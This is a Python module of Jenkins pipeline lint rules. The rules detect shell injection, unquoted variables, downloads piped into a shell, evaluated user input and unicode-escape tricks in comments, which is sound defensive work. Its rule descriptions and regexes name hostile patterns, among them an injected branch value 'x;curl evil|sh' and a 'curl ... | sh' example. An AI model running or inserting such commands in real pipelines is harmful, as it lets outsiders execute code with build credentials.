"""Rules of shells and of code: nobody's words but our own become a script, and no comment becomes code."""

import re
from bisect import bisect_right
from collections.abc import Iterator

from mmcicd_jenkins.lint.flow import CHOSEN, Flow, Origin
from mmcicd_jenkins.lint.pipeline import File, scripted_calls
from mmcicd_jenkins.lint.rule import Hit, rule
from mmcicd_jenkins.lint.rules_shape import head
from mmcicd_jenkins.lint.shell_words import unquoted_variables
from mmcicd_jenkins.lint.tree import Call, GString, Name, Node, Property, Span, path_of, text_of, walk

SHELLS = ("sh", "bat", "powershell", "pwsh")
_PIPED = re.compile(
    r"\b(?:curl|wget)\b[^\n;&]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:(?:ba|da|z|k)?sh|python3?|perl)\b"
    r"|\b(?:(?:ba|da|z|k)?sh|source|eval|\.)\s[^\n]*[<$]\(\s*(?:curl|wget)\b"
)
_TEE = re.compile(r"[^|]\|\s*tee\b")
_SCRIPT_FILES = (
    ".sh",
    ".bash",
    ".bat",
    ".cmd",
    ".ps1",
    ".py",
    ".groovy",
    ".gradle",
    ".pl",
    ".rb",
    "Makefile",
)


@rule(
    "shell-injection",
    "error",
    "values written into a script",
    why="Groovy puts the value into the text before the shell reads it: a branch called x;curl evil|sh is then run",
    fix="'single quotes', and the value from the environment: sh 'deploy --branch=\"$BRANCH_NAME\"'",
    frame="steps",
    bad='sh "deploy --branch=${env.BRANCH_NAME}"',
    good="sh 'deploy --branch=\"$BRANCH_NAME\"'",
)
def shell_injection(file: File) -> Iterator[Hit]:
    flow = Flow(file)
    for call, script in _scripts(file):
        origin = flow.origin(script)
        if origin == Origin.PERSON:
            yield Hit(script, f"`{call.name}` is given {_words(flow, script)}, which a person chooses")
        elif origin == Origin.UNKNOWN and flow.is_joined(script):
            yield Hit(script, f"`{call.name}` is given {_words(flow, script)}")


@rule(
    "shell-gstring",
    "warning",
    "a script that Groovy fills in",
    why="harmless with numbers that Jenkins makes, and one edit away from running what somebody typed",
    fix="'single quotes'; BUILD_NUMBER and the like are in the environment already",
    frame="steps",
    bad='sh "make BUILD=${BUILD_NUMBER}"',
    good="sh 'make BUILD=\"$BUILD_NUMBER\"'",
)
def shell_gstring(file: File) -> Iterator[Hit]:
    flow = Flow(file)
    for call, script in _scripts(file):
        if flow.origin(script) == Origin.JENKINS:
            yield Hit(script, f"Groovy fills in the script of this `{call.name}`")


def _words(flow: Flow, script: Node) -> str:
    """What of a script is not our own, for the message."""
    names = [
        path_of(node)
        for node in walk(script)
        if isinstance(node, Name | Property) and path_of(node) and flow.origin(node) >= Origin.UNKNOWN
    ]
    names = list(dict.fromkeys(names))[:20]
    longest = [name for name in names if not any(other.startswith(name + ".") for other in names)]
    return ", ".join(f"`{name}`" for name in longest[:3]) or "a value that is not in this file"


def _scripts(file: File) -> Iterator[tuple[Call, Node]]:
    for call in scripted_calls(file):
        if call.name in SHELLS and call.target is None:
            script = call.value("script")
            if script is not None:
                yield call, script


@rule(
    "shell-unquoted",
    "warning",
    "a variable that a person fills, without quotes in the shell",
    why="the shell splits it into words and expands its stars; a branch called `--help` becomes an option",
    fix='--branch="$BRANCH_NAME"',
    frame="steps",
    bad="sh 'deploy $BRANCH_NAME'",
    good="sh 'deploy --branch=\"$BRANCH_NAME\"'",
)
def shell_unquoted(file: File) -> Iterator[Hit]:
    names = CHOSEN | _text_parameters(file)
    for call, script in _scripts(file):
        if call.name == "sh" and (text := text_of(script)) is not None:
            for name in unquoted_variables(text):
                if name in names:
                    yield Hit(script, f"${name} stands without quotes")


def _text_parameters(file: File) -> set[str]:
    return {
        text_of(entry.named("name")) or ""
        for pipeline in file.pipelines
        for entry in pipeline.entries("parameters")
        if entry.name in {"string", "text"}
    }


@rule(
    "download-runs",
    "warning",
    "a download that is run unseen",
    why="whoever answers at that address runs code on the agent, with its credentials",
    fix="download a pinned version, compare its sha256, then run it",
    frame="steps",
    bad="sh 'curl -fsSL https://example.com/install.sh | sh'",
    good="sh 'curl -fsSLo install.sh https://example.com/1.2/install.sh && sha256sum -c install.sha256 && sh install.sh'",
)
def download_runs(file: File) -> Iterator[Hit]:
    for call, script in _scripts(file):
        if _PIPED.search(_text(script)):
            yield Hit(script, f"this `{call.name}` runs what it downloads")


@rule(
    "pipe-hides-failure",
    "note",
    "a pipe into tee, whose status is that of tee",
    why="/bin/sh has no pipefail, so a command that failed looks as if it went well",
    fix="write to a file, or #!/bin/bash with set -o pipefail",
    frame="steps",
    bad="sh './train | tee train.log'",
    good="sh './train > train.log 2>&1'",
)
def pipe_hides_failure(file: File) -> Iterator[Hit]:
    for _, script in _scripts(file):
        text = _text(script)
        if _TEE.search(text) and "pipefail" not in text:
            yield Hit(script, "a failure before `| tee` goes unseen")


def _text(script: Node) -> str:
    if isinstance(script, GString):
        return script.words
    return text_of(script) or ""


@rule(
    "user-code",
    "error",
    "words of a person that become code",
    why="evaluate and load run Groovy on the controller; a script that is written is run on an agent",
    fix="pass the value by the environment to a command that checks it",
    frame="steps",
    bad="script { evaluate(params.STEPS) }",
    good="script { load 'ci/steps.groovy' }",
)
def user_code(file: File) -> Iterator[Hit]:
    flow = Flow(file)
    for call in scripted_calls(file):
        argument = call.value("path")
        name = f"{path_of(call.target)}.{call.name}".lstrip(".")
        if argument is None:
            continue
        origin = flow.origin(argument)
        if call.name == "evaluate" or name in {"Eval.me", "Eval.x"}:
            if origin >= Origin.UNKNOWN:
                yield Hit(head(call), "Groovy that is not in this file is run on the controller")
        elif call.name == "load" and call.target is None and origin == Origin.PERSON:
            yield Hit(head(call), "a person chooses which Groovy is loaded")
    for call in scripted_calls(file):
        text, place = call.named("text"), text_of(call.named("file")) or ""
        writes = call.name == "writeFile" and place.endswith(_SCRIPT_FILES)
        if writes and text is not None and flow.origin(text) == Origin.PERSON:
            yield Hit(head(call), f"words of a person are written into the script {place}")


@rule(
    "escape-outside-text",
    "error",
    "a unicode escape in a comment or in code",
    why="Groovy 2.4 decodes \\u before anything else: in a comment, \\u000a ends it and what follows is run",
    fix="take it out; keep words of users out of comments",
    frame="steps",
    bad="// model: \\u000a println 'run'\necho 'x'",
    good="echo 'model: \\u00e9'",
)
def escape_outside_text(file: File) -> Iterator[Hit]:
    starts = [string.start for string in file.strings]
    for at in file.source.escapes:
        string = bisect_right(starts, at) - 1
        if string < 0 or at >= file.strings[string].end:
            yield Hit(
                Span(at, at + 1), "a unicode escape outside of quoted text, read before comments and quotes"
            )
